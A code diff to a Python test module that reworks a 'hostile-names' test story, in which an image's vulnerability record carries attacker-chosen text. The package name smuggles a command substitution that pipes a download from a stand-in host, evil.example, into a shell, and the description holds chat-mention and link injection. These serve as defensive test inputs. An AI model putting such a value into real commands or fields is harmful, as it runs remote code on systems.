@@ -9,8 +9,11 @@ from tests.crash_matrix.stories import STORIES as UNBROKEN
 from tests.crash_matrix.stories import Story
 from tests.crash_matrix.subjects.image import ImageSubject
 
-SHELL = "openssl$(curl evil.example|sh)"
-LOUD = "<!channel> *approved* [here](https://evil.example) {code}|table|"
+HOSTILE = replace(
+    OPENSSL,
+    package="openssl$(curl evil.example|sh)<!channel>",
+    description="<!channel> *approved* [here](https://evil.example) {code}|table|",
+)
 
 _IMAGE = UNBROKEN["image"]
 
@@ -18,9 +21,7 @@ STORIES: dict[str, Story] = {
     "image": _IMAGE,
     "image-denied": UNBROKEN["image-denied"],
     "bad-build": Story(ImageSubject(image={"build": "keeps_packages"}), _IMAGE.runbook),
-    "hostile-names": Story(
-        ImageSubject(vulnerability=replace(OPENSSL, package=SHELL, description=LOUD)), _IMAGE.runbook
-    ),
+    "hostile-names": Story(ImageSubject(vulnerability=HOSTILE), _IMAGE.runbook),
 }
-"""`bad-build`: the build succeeds, and its image has the vulnerability still. `hostile-names`: whoever made the image has
-named a package in it, which Inspector repeats."""
+"""`bad-build`: the build succeeds, and its image has the vulnerability still. `hostile-names`: whoever made the image
+has named a package in it, and Inspector repeats the name."""
